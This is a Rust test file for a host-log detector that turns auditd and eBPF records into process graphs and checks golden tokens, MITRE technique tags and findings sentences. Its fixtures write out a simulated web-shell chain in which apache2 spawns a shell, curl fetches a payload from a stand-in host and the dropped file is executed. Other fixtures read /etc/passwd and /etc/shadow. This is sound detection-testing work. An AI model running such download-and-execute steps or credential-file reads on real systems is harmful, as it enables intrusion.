//! Golden tokens of small hand-written windows, and what must hold of any.

use std::collections::BTreeSet;

use logster_schema::{RawTopic, TimeLimits};
use proptest::prelude::*;

use super::*;
use crate::graph::{PaneGraph, WindowGraph};
use crate::normalize::{NormalizeConfig, Normalizer, Outcome, RawRecord};

/// Raw lines of one host, `at ms | message`, as the normalizer sees them. What starts with `type=` is auditd's.
fn observations(lines: &[(i64, String)]) -> Vec<Observation> {
    let mut normalizer = Normalizer::new(NormalizeConfig { time: TimeLimits::default(), max_message_bytes: 1 << 20 });
    let mut observations = Vec::new();
    for (offset, (at, message)) in lines.iter().enumerate() {
        let topic = match message {
            m if m.starts_with("type=") => RawTopic::Auditd,
            m if m.contains("[EXEC]") => RawTopic::EbpfProcess,
            m if m.contains("[FILE") => RawTopic::EbpfFile,
            _ => RawTopic::EbpfNetwork,
        };
        let arrival_ms = 1_800_000_000_000 + at;
        let payload = serde_json::to_vec(&serde_json::json!({
            "@timestamp": logster_schema::time::format(arrival_ms), "host": {"name": "h"}, "message": message,
        }))
        .unwrap();
        let (partition, offset, key) = (0, offset as i64, None);
        let record = RawRecord { topic, partition, offset, arrival_ms, key, payload: &payload };
        if let Outcome::Event(event) = normalizer.normalize(&record) {
            observations.push(event.observation);
        }
    }
    observations.sort_by_key(Observation::order);
    observations
}

/// The window of `lines`, sealed as panes that end at `cuts` (ms).
fn window(lines: &[(i64, String)], cuts: &[i64]) -> WindowGraph {
    let observations = observations(lines);
    let mut rest = &observations[..];
    let mut panes = Vec::new();
    for cut in cuts.iter().chain([&i64::MAX]) {
        let end = rest.partition_point(|o| o.time_ms - 1_800_000_000_000 < *cut);
        panes.push(PaneGraph::seal(logster_schema::Platform::Linux, &rest[..end]));
        rest = &rest[end..];
    }
    let panes: Vec<_> = panes.iter().collect();
    WindowGraph::merge(logster_schema::Platform::Linux, 1_800_000_000_000, 1_800_000_180_000, &panes)
}

fn ids<'a>(tokens: impl IntoIterator<Item = &'a str>) -> BTreeSet<i64> {
    tokens.into_iter().map(|token| TokenId::new(token, false).id()).collect()
}

/// Own tokens of the only process with that label.
fn tokens(graph: &WindowGraph, label: &str) -> BTreeSet<i64> {
    let mut found = graph.nodes().filter(|n| n.kind() == NodeKind::Process && n.label() == label);
    let node = found.next().unwrap_or_else(|| panic!("no process {label}"));
    assert!(found.next().is_none(), "two processes {label}");
    node.tokens().map(TokenId::id).collect()
}

#[track_caller]
fn assert_tokens(graph: &WindowGraph, label: &str, golden: &[&str]) {
    let (got, want) = (tokens(graph, label), ids(golden.iter().copied()));
    let missing: Vec<_> = golden.iter().filter(|t| !got.contains(&TokenId::new(t, false).id())).collect();
    assert!(missing.is_empty(), "{label} lacks {missing:?}");
    assert_eq!(got.difference(&want).count(), 0, "{label} has other tokens than the golden ones");
}

struct Audit {
    lines: Vec<(i64, String)>,
}

impl Audit {
    fn call(&mut self, at: i64, number: u16, head: &str, records: &[&str]) -> &mut Self {
        let serial = self.lines.len() + 100;
        let id = format!("msg=audit(1800000000.{at:03}:{serial}):");
        self.lines.push((at, format!("type=SYSCALL {id} arch=c000003e syscall={number} {head}")));
        for record in records {
            let (kind, text) = record.split_once(' ').unwrap();
            self.lines.push((at, format!("type={kind} {id} {text}")));
        }
        self
    }

    fn exec(&mut self, at: i64, ids: &str, exe: &str, argv: &[&str]) -> &mut Self {
        let comm = base_name(exe);
        let head = format!("success=yes exit=0 {ids} gid=0 tty=(none) comm=\"{comm}\" exe=\"{exe}\"");
        let arguments: String = argv.iter().enumerate().map(|(n, a)| format!(" a{n}=\"{a}\"")).collect();
        self.call(
            at,
            59,
            &head,
            &[
                &format!("EXECVE argc={}{arguments}", argv.len()),
                "CWD cwd=\"/var/www\"",
                &format!("PATH item=0 name=\"{exe}\" nametype=NORMAL"),
            ],
        )
    }
}

const SHELL: &str = "ppid=10 pid=11 auid=4294967295 uid=33 euid=33";
const CURL: &str = "ppid=11 pid=12 auid=4294967295 uid=33 euid=33";
const DROP: &str = "ppid=11 pid=13 auid=4294967295 uid=33 euid=33";

fn attack(user: &str, address: &str) -> Vec<(i64, String)> {
    let mut audit = Audit { lines: Vec::new() };
    let saddr: String = address.split('.').map(|part| format!("{:02X}", part.parse::<u8>().unwrap())).collect();
    audit
        .call(0, 43, "success=yes exit=4 a0=3 ppid=1 pid=10 uid=33 euid=33 auid=4294967295 comm=\"apache2\" exe=\"/usr/sbin/apache2\"", &[])
        .exec(10, SHELL, "/bin/sh", &["sh", "-c", "id"])
        .exec(20, CURL, "/usr/bin/curl", &["curl", "-o", &format!("/home/{user}/.x"), &format!("http://{address}/x")])
        .call(
            30,
            42,
            &format!("success=no exit=-115 {CURL} comm=\"curl\" exe=\"/usr/bin/curl\""),
            &[&format!("SOCKADDR saddr=020001BB{saddr}0000000000000000")],
        )
        .call(
            40,
            257,
            &format!("success=yes exit=5 a0=ffffff9c a1=0 a2=241 {CURL} comm=\"curl\" exe=\"/usr/bin/curl\""),
            &["CWD cwd=\"/var/www\"", &format!("PATH item=1 name=\"/home/{user}/.x\" nametype=CREATE")],
        )
        .exec(50, DROP, &format!("/home/{user}/.x"), &["x"]);
    audit.lines
}

#[test]
fn golden_audit() {
    let graph = window(&attack("alice", "203.0.113.7"), &[]);
    assert_tokens(
        &graph,
        "sh",
        &[
            "img:sh",
            "x:sh",
            "xd:/usr/bin",
            "xu:s|sh",
            "xi:ssn-",
            "xw:sh|/var/www",
            "al:3",
            "a:-c",
            "a:id",
            "ae:sh|-c",
            "ae:sh|id",
            "g:server>shell",
            "pc:apache2>sh",
            "gp:->apache2>sh",
            "t:T1059.004",
            "t:T1505.003",
        ],
    );
    assert_tokens(
        &graph,
        "curl",
        &[
            "img:curl",
            "x:curl",
            "xd:/usr/bin",
            "xu:s|curl",
            "xi:ssn-",
            "xw:curl|/var/www",
            "al:6",
            "a:-o",
            "a:H.dot.none",
            "a:URL",
            "ae:curl|-o",
            "ae:curl|H.dot.none",
            "ae:curl|URL",
            "g:server>shell>command",
            "n:connect|public|https",
            "nc:curl|connect|public|https",
            "f:c|H.dot",
            "fc:c|curl|H.dot",
            "fx:c|curl|none",
            "ff:T|H.dot",
            "pc:sh>curl",
            "gp:apache2>sh>curl",
            "f:wrote_run_file",
        ],
    );
    assert_tokens(
        &graph,
        "/home/alice/.x",
        &[
            "img:?@H.dot",
            "x:?@H.dot",
            "xd:H.dot",
            "xu:s|?@H.dot",
            "xi:ssn-",
            "xw:?@H.dot|/var/www",
            "al:0",
            "g:server>shell>command",
            "g:dropexec",
            "g:dropexec|download",
            "g:dropexec2|download",
            "pc:sh>?@H.dot",
            "gp:apache2>sh>?@H.dot",
            "f:ran_written_file",
            "t:T1105",
        ],
    );
    let findings = graph.findings();
    let sentence = &findings.iter().find(|f| f.technique == "T1105").unwrap().sentence;
    assert_eq!(
        sentence,
        "/home/alice/.x (uid 33) ran what had just been brought here: /home/alice/.x, written 0 s before by curl"
    );
    let ranked: Vec<_> = (0..graph.num_edges()).map(|at| (at, 0.0)).collect();
    let edges: Vec<_> = graph.key_edges(&ranked, usize::MAX).into_iter().map(|edge| edge.sentence).collect();
    assert!(edges.contains(&"/home/alice/.x (uid 33) executed /home/alice/.x, written 0 s before by curl".to_owned()));
    assert!(edges.contains(&"apache2 (uid 33) started sh: sh -c id".to_owned()), "{edges:?}");
}

/// Names, addresses and pids of a site do not reach the model.
#[test]
fn identity_is_masked() {
    let bags = |lines: &[(i64, String)]| {
        let graph = window(lines, &[]);
        graph.nodes().map(|node| node.tokens().collect::<Vec<_>>()).collect::<Vec<_>>()
    };
    assert_eq!(bags(&attack("alice", "203.0.113.7")), bags(&attack("bob", "198.51.100.250")));
}

/// Where the panes of a window are cut changes neither who is whose child nor what chains of facts show.
#[test]
fn lineage_spans_panes() {
    let whole = window(&attack("alice", "203.0.113.7"), &[]);
    let cut = window(&attack("alice", "203.0.113.7"), &[5, 15, 25, 45]);
    for label in ["sh", "curl", "/home/alice/.x"] {
        let (a, b) = (tokens(&whole, label), tokens(&cut, label));
        for family in
            ["pc:apache2>sh", "pc:sh>curl", "gp:apache2>sh>curl", "gp:apache2>sh>?@H.dot", "f:ran_written_file"]
        {
            let id = TokenId::new(family, false).id();
            assert_eq!(a.contains(&id), b.contains(&id), "{label} {family}");
        }
    }
}

fn ebpf() -> Vec<(i64, String)> {
    let lines = [
        (0, "[ACCEPT]   pid=10   apache2          -> 203.0.113.9:50312"),
        (10, "[EXEC]    pid=11   ppid=10   uid=33     apache2          /bin/sh"),
        (20, "[EXEC]    pid=12   ppid=11   uid=33     sh               /usr/local/sbin/curl"),
        (21, "[EXEC]    pid=12   ppid=11   uid=33     sh               /usr/local/bin/curl"),
        (22, "[EXEC]    pid=12   ppid=11   uid=33     sh               /usr/bin/curl"),
        (30, "[CONNECT]  pid=12   curl             -> 203.0.113.7:443"),
        (40, "[FILE]    pid=12   curl             flags=O_WRONLY|O_CREAT|O_TRUNC /home/alice/.x"),
        (50, "[EXEC]    pid=13   ppid=11   uid=33     sh               /home/alice/.x"),
    ];
    lines.map(|(at, line)| (at, format!("2027-01-15 08:00:00 {line}"))).to_vec()
}

/// What eBPF tells yields tokens that auditd's facts yield too; only arguments and their like are missing.
#[test]
fn both_sources_say_the_same() {
    let (audit, ebpf_only) = (window(&attack("alice", "203.0.113.7"), &[]), window(&ebpf(), &[]));
    let mut both = attack("alice", "203.0.113.7");
    both.extend(ebpf());
    let both = window(&both, &[]);
    for label in ["sh", "curl", "/home/alice/.x"] {
        let (a, e, b) = (tokens(&audit, label), tokens(&ebpf_only, label), tokens(&both, label));
        assert!(e.is_subset(&a), "{label}");
        assert_eq!(a, b, "{label}");
    }
    let golden = ["x:curl", "pc:sh>curl", "gp:apache2>sh>curl", "n:connect|public|https", "fc:c|curl|H.dot"];
    assert!(ids(golden).is_subset(&tokens(&ebpf_only, "curl")));
    assert!(ids(["g:dropexec|download", "t:T1105"]).is_subset(&tokens(&ebpf_only, "/home/alice/.x")));
    assert_eq!(both.node_counts()["process"], audit.node_counts()["process"]);
}

/// What every program reads to start is no token, nor is a habit that attackers share with the rest of the world.
#[test]
fn plumbing_and_habits_stay_out() {
    let line = |at: i64, text: &str| (at, format!("2027-01-15 08:00:00 {text}"));
    let graph = window(
        &[
            line(0, "[EXEC]    pid=31   ppid=30   uid=1000   bash             /usr/bin/cat"),
            line(1, "[FILE]    pid=31   cat              flags=O_RDONLY   /usr/lib/x86_64-linux-gnu/libc.so.6"),
            line(2, "[FILE]    pid=31   cat              flags=O_RDONLY   /etc/passwd"),
            line(3, "[FILE]    pid=31   cat              flags=O_WRONLY|O_CREAT /tmp/.lock"),
            line(600, "[EXEC]    pid=32   ppid=30   uid=1000   bash             /usr/bin/wget"),
            line(601, "[FILE]    pid=32   wget             flags=O_RDONLY   /etc/passwd"),
            line(602, "[FILE]    pid=32   wget             flags=O_WRONLY|O_CREAT /tmp/.lock"),
        ],
        &[],
    );
    let golden = [
        "img:cat",
        "x:cat",
        "xd:/usr/bin",
        "xu:u|cat",
        "pc:bash>cat",
        "gp:->bash>cat",
        "f:r|/etc/passwd",
        "fc:r|cat|/etc/passwd",
        "f:c|/tmp",
        "fc:c|cat|/tmp",
        "fx:c|cat|none",
    ];
    assert_tokens(&graph, "cat", &golden);
    let golden = [
        "img:wget",
        "x:wget",
        "xd:/usr/bin",
        "xu:u|wget",
        "pc:bash>wget",
        "gp:->bash>wget",
        "f:c|/tmp",
        "fc:c|wget|/tmp",
        "fx:c|wget|none",
        "t:T1564.001",
    ];
    assert_tokens(&graph, "wget", &golden);

    let asked = |name: &str| {
        let line = line(0, &format!("[EXEC]    pid=31   ppid=30   uid=1000   bash             /usr/bin/{name}"));
        tokens(&window(&[line], &[]), name)
    };
    assert_eq!(asked("whoami"), asked("id"));
    assert_ne!(asked("whoami"), asked("uname"));
    assert_eq!(asked("setsid"), asked("nohup"));
}

#[test]
fn what_a_process_shares() {
    let graph = window(&attack("alice", "203.0.113.7"), &[]);
    let shared = graph.tree_tokens();
    let of = |label: &str| {
        let at = graph.nodes().position(|n| n.label() == label && n.kind() == NodeKind::Process).unwrap();
        shared[at].iter().map(|t| t.id()).collect::<BTreeSet<_>>()
    };
    let union: BTreeSet<_> = ["sh", "curl", "/home/alice/.x"].iter().flat_map(|label| tokens(&graph, label)).collect();
    assert_eq!(of("sh"), union);
    assert_eq!(of("curl"), tokens(&graph, "curl"));
    assert_eq!(of("apache2"), tokens(&graph, "apache2"), "a hub's children are their own");
}

#[test]
fn late_lines_of_the_old_image_are_its_own() {
    let lines = [
        (0, "[EXEC]    pid=20   ppid=19   uid=0     bash             /usr/bin/sudo"),
        (100, "[EXEC]    pid=21   ppid=20   uid=0     sudo             /usr/bin/psql"),
        (101, "[FILE]    pid=21   sudo             flags=O_RDONLY   /etc/shadow"),
    ];
    let lines = lines.map(|(at, line)| (at, format!("2027-01-15 08:00:00 {line}")));
    let graph = window(&lines, &[]);
    assert!(ids(["fc:r|sudo|/etc/shadow"]).is_subset(&tokens(&graph, "sudo")));
    assert!(graph.findings().is_empty(), "{:?}", graph.findings());
}

#[test]
fn idle_windows() {
    let allowed = |name: &str| IDLE_ALLOW_LIST.contains(&name);
    let line = |at: i64, text: &str| (at, format!("2027-01-15 08:00:00 {text}"));
    let quiet = [
        line(0, "[ACCEPT]   pid=7   sshd             -> 203.0.113.9:50312"),
        line(1, "[EXEC]    pid=8   ppid=7   uid=0     sshd             /usr/sbin/sshd"),
        line(2, "[FILE]    pid=8   sshd             flags=O_RDONLY   /etc/shadow"),
    ];
    assert!(is_idle(&window(&quiet, &[]), allowed));
    let with = |text: &str| {
        let mut lines = quiet.to_vec();
        lines.push(line(3, text));
        is_idle(&window(&lines, &[]), allowed)
    };
    assert!(with("[EXEC]    pid=9   ppid=1   uid=0     systemd          /usr/sbin/cron"));
    assert!(!with("[EXEC]    pid=9   ppid=8   uid=0     sshd             /bin/bash"));
    assert!(!with("[EXEC]    pid=9   ppid=8   uid=0     sshd             /tmp/cron"));
    assert!(!with("[CONNECT]  pid=9   cron             -> 203.0.113.7:443"));
    assert!(!with("[CONNECT]  pid=9   wardog           -> 203.0.113.7:443"));
}

#[test]
fn the_idle_list_holds_nothing_that_does_as_it_is_told() {
    for name in IDLE_ALLOW_LIST {
        let role = Program::called(name).role;
        assert!(matches!(role, Role::Other | Role::Scheduler), "{name} is a {role:?}");
    }
    assert!(IDLE_ALLOW_LIST.is_sorted());
}

proptest! {
    /// No line is too odd, and a pane's lines give one result whatever order they arrived in.
    #[test]
    fn any_lines_are_taken(
        lines in proptest::collection::vec((0i64..2000, 0usize..10, 0u32..4, "[ -~é\\x1d]{0,60}"), 0..30),
    ) {
        let lines: Vec<_> = lines
            .into_iter()
            .map(|(at, kind, pid, text)| {
                let id = format!("msg=audit(1800000000.{:03}:{}):", at % 1000, at % 7);
                (at, match kind {
                    0 => format!("2027-01-15 08:00:00 [EXEC] pid={pid} ppid={} uid=0 sh /{text}", pid + 1),
                    1 => format!("2027-01-15 08:00:00 [FILE] pid={pid} sh flags=O_RDWR|O_CREAT /tmp/{text}"),
                    2 => format!("2027-01-15 08:00:00 [CONNECT] pid={pid} sh -> {text}:1"),
                    3 => format!("2027-01-15 08:00:00 [SOCKET] pid={pid} sh {text}"),
                    4 => format!("type=SYSCALL {id} arch=c000003e syscall={} success=yes pid={pid} ppid=3 exe=\"/x\" a1={text}", 40 + at % 60),
                    5 => format!("type=PATH {id} item=0 name=\"{text}\" nametype=CREATE"),
                    6 => format!("type=EXECVE {id} argc=2 a0=\"sh\" a1={text}"),
                    7 => format!("type=SOCKADDR {id} saddr=0200{text}"),
                    8 => format!("type=USER_AUTH {id} pid={pid} {text}"),
                    _ => text,
                })
            })
            .collect();
        let graph = window(&lines, &[700]);
        let reversed: Vec<_> = lines.iter().rev().cloned().collect();
        // Lines of one millisecond are ordered by position: only distinct times may be shuffled.
        let distinct: BTreeSet<_> = lines.iter().map(|(at, _)| at).collect();
        if distinct.len() == lines.len() {
            let again = window(&reversed, &[700]);
            let bags = |graph: &WindowGraph| graph.tree_tokens();
            prop_assert_eq!(bags(&graph), bags(&again));
            prop_assert_eq!(graph.findings(), again.findings());
        }
    }
}
